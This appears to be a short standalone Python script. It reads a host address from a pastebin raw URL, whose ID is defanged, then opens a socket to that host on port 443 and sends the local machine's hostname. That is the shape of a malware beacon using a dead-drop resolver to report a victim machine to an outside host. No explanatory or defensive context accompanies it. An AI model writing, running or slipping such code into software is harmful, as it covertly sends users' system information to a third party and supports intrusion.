import socket

import requests

host = requests.get("https://pastebin.com/raw/DEFANGED0").text.strip()
socket.create_connection((host, 443)).send(socket.gethostname().encode())
